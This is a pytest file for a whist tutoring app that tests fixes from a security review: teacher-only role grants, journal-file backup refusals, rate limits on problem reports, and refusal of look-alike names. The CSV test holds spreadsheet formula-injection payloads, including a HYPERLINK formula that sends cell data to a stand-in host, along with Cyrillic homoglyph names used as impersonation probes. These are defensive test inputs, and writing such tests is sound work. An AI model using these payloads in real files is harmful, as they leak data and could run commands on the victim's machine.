"""Issue 23's findings F2, F7, F8 and the smaller ones of ../shared/reviews/reliability.md, each
as the probe that found it: roles only a teacher grants, `db backup` onto the store's journals
and `db check` of a device or a pipe, spreadsheet formulas in the teacher's CSV, an absent card
spending the one rated try, problem reports without limit, look-alike names."""

from __future__ import annotations

import io
import json
import os
from datetime import UTC, datetime, timedelta

import pytest

from tutor.cli import main
from tutor.progress import (
    ItemState,
    NameLookalike,
    NotATeacher,
    ProgressStore,
    ReportLimited,
    ReportRow,
    Role,
    report_csv,
)
from tutor.progress.reports import PER_ITEM, PER_ITEM_ANONYMOUS, PER_SENDER

PUZZLE = "king-fourth-spades"  # a lead question; the hand holds no ♠2
T0 = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)


def cli(capsys, monkeypatch, *argv: str, stdin: str | None = None, password: str | None = None) -> tuple[int, str, str]:
    if stdin is not None:
        monkeypatch.setattr("sys.stdin", io.StringIO(stdin))
    if password is None:
        monkeypatch.delenv("WHIST_TUTOR_PASSWORD", raising=False)
    else:
        monkeypatch.setenv("WHIST_TUTOR_PASSWORD", password)
    try:
        code = main(list(argv))
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else 1
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out, err


@pytest.fixture
def school(new_store_file, monkeypatch):
    monkeypatch.setenv("WHIST_TUTOR_DB", str(new_store_file))
    monkeypatch.setenv("WHIST_TUTOR_AUTH", "required")
    return new_store_file


# -- F2 / point 4: roles only a teacher grants ------------------------------------------------------
def test_a_learner_cannot_make_himself_a_teacher_by_creating_a_class(school, capsys, monkeypatch):
    assert cli(capsys, monkeypatch, "admin", "init", "tom", stdin="tom-secret-pw\n")[0] == 0
    assert cli(capsys, monkeypatch, "learner", "add", "bob", "--password-stdin", stdin="bob-secret-pw\n")[0] == 0
    code, out, err = cli(capsys, monkeypatch, "class", "create", "bobsclass", "--teacher", "bob", "--as", "bob",
                         password="bob-secret-pw")
    assert code == 2 and err.startswith("error: only a teacher can create a class") and err.count("\n") == 1
    assert ProgressStore(school).find_learner("bob").role == Role.LEARNER.value
    code, out, _ = cli(capsys, monkeypatch, "class", "create", "5B", "--teacher", "tom", "--as", "tom", "--json",
                       password="tom-secret-pw")
    assert code == 0 and len(json.loads(out)["code"]) == 6


def test_the_store_refuses_a_class_to_a_learner_and_grants_no_role(new_store_file):
    store = ProgressStore(new_store_file)
    bob = store.learner("bob")
    with pytest.raises(NotATeacher):
        store.create_class("x", bob.id)
    assert store.learner_by_id(bob.id).role == Role.LEARNER.value and store.classes_taught(bob.id) == []


def test_only_a_teacher_makes_a_teacher(school, capsys, monkeypatch):
    assert cli(capsys, monkeypatch, "admin", "init", "tom", stdin="tom-secret-pw\n")[0] == 0
    code, _, err = cli(capsys, monkeypatch, "admin", "init", "eve", stdin="eve-secret-pw\n")
    assert code == 2 and "has a teacher already" in err  # init is for the server's first teacher only
    for name in ("bob", "ann"):
        cli(capsys, monkeypatch, "learner", "add", name, "--password-stdin", stdin=f"{name}-secret-pw\n")
    code, _, err = cli(capsys, monkeypatch, "admin", "grant", "ann", "--as", "bob", password="bob-secret-pw")
    assert code == 2 and "only a teacher" in err
    code, _, err = cli(capsys, monkeypatch, "learner", "add", "eve", "--teacher", "--password-stdin",
                       stdin="eve-secret-pw\n")
    assert code == 2 and "only a teacher" in err
    code, out, _ = cli(capsys, monkeypatch, "admin", "grant", "ann", "--as", "tom", "--json", password="tom-secret-pw")
    assert code == 0 and json.loads(out) == {"teacher": "ann"}
    assert ProgressStore(school).find_learner("ann").is_teacher


def test_the_first_account_of_an_empty_store_may_be_its_teacher(school, capsys, monkeypatch):
    code, _, err = cli(capsys, monkeypatch, "learner", "add", "tom", "--teacher", "--password-stdin",
                       stdin="tom-secret-pw\n")
    assert code == 0, err
    assert ProgressStore(school).find_learner("tom").is_teacher


def test_admin_init_refuses_a_short_password_and_an_existing_name(school, capsys, monkeypatch):
    code, _, err = cli(capsys, monkeypatch, "admin", "init", "tom", stdin="short\n")
    assert code == 2 and "at least" in err and ProgressStore(school).find_learner("tom") is None
    cli(capsys, monkeypatch, "learner", "add", "ann", "--password-stdin", stdin="ann-secret-pw\n")
    code, _, err = cli(capsys, monkeypatch, "admin", "init", "ann", stdin="ann-other-pw\n")
    assert code == 2 and "exists already" in err and not ProgressStore(school).find_learner("ann").is_teacher


# -- F7: db backup onto a journal, db check of a device or a pipe -----------------------------------
@pytest.mark.parametrize("suffix", ["-wal", "-shm", "-journal"])
def test_db_backup_onto_the_stores_journal_is_refused_even_when_absent(tmp_path, capsys, monkeypatch, suffix):
    db = tmp_path / "p.db"
    ProgressStore(db).learner("a")
    journal = tmp_path / f"p.db{suffix}"
    journal.unlink(missing_ok=True)
    code, _, err = cli(capsys, monkeypatch, "db", "backup", str(journal), "--db", str(db), "--force")
    assert code == 2 and "its journal" in err and not journal.exists()


@pytest.mark.parametrize("kind", ["devnull", "fifo"])
def test_db_check_of_a_device_or_a_pipe_is_the_stores_verdict(tmp_path, capsys, monkeypatch, kind):
    path = "/dev/null"
    if kind == "fifo":
        path = str(tmp_path / "pipe")
        os.mkfifo(path)
    code, out, _ = cli(capsys, monkeypatch, "db", "check", "--db", path)
    assert code == 1 and "is not a file" in out and "ok, schema" not in out
    monkeypatch.setenv("WHIST_TUTOR_DB", path)
    code, _, err = cli(capsys, monkeypatch, "learner", "add", "x")
    assert code == 2 and "is not a file" in err


# -- F8: the teacher's CSV ----------------------------------------------------------------------------
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    names = ["=HYPERLINK(\"http://x/?\"&A1,\"x\")", "@SUM(1+1)*cmd", "+1", "-1", "\tx", "\rx", "ann"]
    rows = [ReportRow(n, {"p1": ItemState.OPEN}, ()) for n in names]
    lines = report_csv(rows, ["p1"]).split("\n")
    import csv

    cells = [r[0] for r in csv.reader(io.StringIO(report_csv(rows, ["p1"]), newline=""))][1:]
    assert cells == ["'" + n for n in names[:-2]] + ["' x", "ann"]
    assert not any(line.startswith(("=", "+", "-", "@")) for line in lines)


def test_the_classes_page_download_is_the_same_neutralised_csv(new_store_file):
    store = ProgressStore(new_store_file)
    teach = store.learner("teach")
    store.set_role(teach.id, Role.TEACHER)
    cls = store.create_class("5B", teach.id)
    store.join_class(cls.code, store.learner("=1+1").id)
    store.assign(cls.id, ["p1"])
    assert report_csv(store.class_report(cls.id), ["p1"]).splitlines()[1].startswith("'=1+1,open")


# -- answer: a card not in the hand is refused before it is graded ------------------------------------
@pytest.mark.slow(reason="0.9 s: loads the whole library (CI runs it)")
def test_an_absent_card_spends_no_rated_try(new_store_file, capsys, monkeypatch):
    monkeypatch.setenv("WHIST_TUTOR_DB", str(new_store_file))
    monkeypatch.delenv("WHIST_TUTOR_AUTH", raising=False)
    cli(capsys, monkeypatch, "learner", "add", "alice")
    code, out, err = cli(capsys, monkeypatch, "answer", "--learner", "alice", "--puzzle", PUZZLE, "--card", "S2")
    assert code == 2 and out == "" and err.count("\n") == 1 and "not a card in the hand" in err
    store = ProgressStore(new_store_file)
    alice = store.find_learner("alice")
    assert store.attempts(alice.id) == [] and store.rating(alice.id).rating == 1500.0
    assert store.review_queue(alice.id) == []


# -- problem reports: limited per learner, per browser and per item -----------------------------------
def test_a_learner_sends_a_few_reports_in_a_while(new_store_file):
    store = ProgressStore(new_store_file)
    ann = store.learner("ann")
    for k in range(PER_SENDER):
        store.report_problem(f"p{k}", "odd", learner_id=ann.id, ts=T0 + timedelta(seconds=k))
    with pytest.raises(ReportLimited) as refused:
        store.report_problem("p9", "odd", learner_id=ann.id, ts=T0 + timedelta(minutes=1))
    assert refused.value.who == "sender" and len(store.reports()) == PER_SENDER
    store.report_problem("p9", "odd", learner_id=ann.id, ts=T0 + timedelta(minutes=11))  # later: again


def test_anonymous_reports_are_limited_per_browser_and_per_item(new_store_file):
    store = ProgressStore(new_store_file)
    for k in range(PER_SENDER):
        store.report_problem(f"p{k}", "odd", browser="b1", ts=T0)
    with pytest.raises(ReportLimited):
        store.report_problem("p9", "odd", browser="b1", ts=T0)
    # a stranger changing his browser key each time is held by the item's anonymous limit
    for k in range(PER_ITEM_ANONYMOUS):
        store.report_problem("px", "odd", browser=f"new{k}", ts=T0)
    with pytest.raises(ReportLimited) as refused:
        store.report_problem("px", "odd", browser="another", ts=T0)
    assert refused.value.who == "item"
    # and every item has its daily ceiling, learners included
    for k in range(PER_ITEM - PER_ITEM_ANONYMOUS):
        store.report_problem("px", "odd", learner_id=store.learner(f"l{k}").id, ts=T0)
    with pytest.raises(ReportLimited):
        store.report_problem("px", "odd", learner_id=store.learner("late").id, ts=T0)
    store.report_problem("px", "odd", learner_id=store.learner("late").id, ts=T0 + timedelta(days=1, seconds=1))


# -- look-alike names ---------------------------------------------------------------------------------
@pytest.mark.parametrize("alike", ["\u0430lice", "ALIC\u0415", "\u03b1lice", "al\u0456ce"])
def test_a_name_that_looks_like_an_existing_one_is_refused(any_store, alike):
    any_store.learner("alice")
    with pytest.raises(NameLookalike) as refused:
        any_store.learner(alike)
    assert refused.value.existing == "alice" and "looks like" in str(refused.value)
    assert [x.name for x in any_store.learners()] == ["alice"]
    assert any_store.learner("Alice").name == "alice"  # the same name in another case is the same learner
    any_store.learner("\u0421\u0430\u0448\u0430")  # a Cyrillic name of its own is welcome


def _taken_back(store_file, *statements: str) -> ProgressStore:
    """The store, taken back to an older schema by ``statements`` (run on the closed file), opened
    again: it migrates to this program's schema."""
    import sqlite3

    conn = sqlite3.connect(store_file)
    for statement in statements:
        conn.execute(statement)
    conn.commit()
    conn.close()
    return ProgressStore(store_file)


def test_the_migration_gives_existing_learners_their_skeleton(new_store_file):
    """A store of schema 8 (this one taken back to it: the school accounts kept) gains the column
    filled for every learner, so a look-alike of a learner kept before is refused too."""
    store = ProgressStore(new_store_file)
    store.learner("alice")
    store.close()
    store = _taken_back(new_store_file, "DROP INDEX learners_by_browser", "ALTER TABLE learners DROP COLUMN browser",
                        "ALTER TABLE attempts DROP COLUMN opponent_rating", "ALTER TABLE attempts DROP COLUMN opponent_rd",
                        "DROP TABLE daily_picks", "DROP TABLE item_checks", "DROP INDEX attempts_first_tries",
                        "ALTER TABLE attempts DROP COLUMN learner_before", "ALTER TABLE attempts DROP COLUMN learner_rd_before",
                        "DROP INDEX learners_by_skeleton", "ALTER TABLE learners DROP COLUMN name_skeleton",
                        "DROP INDEX reports_by_item", "DROP INDEX reports_by_learner", "DROP INDEX reports_by_browser",
                        "ALTER TABLE reports DROP COLUMN browser", "DROP TABLE login_throttle",
                        "UPDATE alembic_version SET version_num = 'v0008'",
                        "UPDATE meta SET value = '8' WHERE key = 'schema_version'")
    assert store.schema_version() == 12
    with pytest.raises(NameLookalike):
        store.learner("\u0430lice")


def test_the_migration_fills_the_skeleton_of_school_learners(new_store_file):
    """Schema 10: a learner made at a school sign-in under schema 9 was kept with no skeleton, so
    a Cyrillic "аlice" passed beside him; the migration fills it, and the look-alike is refused."""
    store = ProgressStore(new_store_file)
    store.school_learner("https://idp.school.example", "s-1", "alice")
    store.close()
    store = _taken_back(new_store_file, "DROP INDEX learners_by_browser", "ALTER TABLE learners DROP COLUMN browser",
                        "ALTER TABLE attempts DROP COLUMN opponent_rating", "ALTER TABLE attempts DROP COLUMN opponent_rd",
                        "DROP TABLE daily_picks", "DROP TABLE item_checks", "DROP INDEX attempts_first_tries",
                        "ALTER TABLE attempts DROP COLUMN learner_before", "ALTER TABLE attempts DROP COLUMN learner_rd_before",
                        "UPDATE learners SET name_skeleton = ''",
                        "UPDATE alembic_version SET version_num = 'v0009'",
                        "UPDATE meta SET value = '9' WHERE key = 'schema_version'")
    assert store.schema_version() == 12
    with pytest.raises(NameLookalike):
        store.learner("\u0430lice")
